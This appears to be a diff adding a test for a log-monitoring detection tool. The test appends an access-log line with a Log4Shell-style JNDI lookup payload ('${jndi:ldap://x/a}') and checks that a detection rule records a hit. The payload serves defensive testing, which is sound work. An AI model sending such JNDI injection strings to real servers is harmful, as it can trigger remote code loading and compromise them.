@@ -67,3 +67,25 @@ def test_new_lines_reach_the_store_while_following(tmp_path: Path) -> None:
     finally:
         running.kill()
         running.wait()
+
+
+def test_without_a_baseline_rules_reach_the_queue_while_following(tmp_path: Path) -> None:
+    log, store = tmp_path / "access.log", tmp_path / "store"
+    log.write_text(lines(0, 40), encoding="utf-8")
+    command = [LICHEN, "run", "--store", store, "--follow", log, "--port", "0"]
+    running = subprocess.Popen(command, start_new_session=True, **QUIET)
+    try:
+        time.sleep(4)
+        with log.open("a", encoding="utf-8") as out:
+            out.write(LINE.format(host=3, second=59, number=1).replace("/api/orders/1", "/?q=${jndi:ldap://x/a}"))
+        deadline = time.monotonic() + 100
+        while time.monotonic() < deadline:
+            if (store / "records.sqlite").exists():
+                with Store(store) as opened:
+                    if any(line.detector.startswith("rule:") for b in opened.records.beliefs() for line in b.ledger):
+                        return
+            time.sleep(1)
+        pytest.fail("the rule's hit was never believed")
+    finally:
+        running.kill()
+        running.wait()
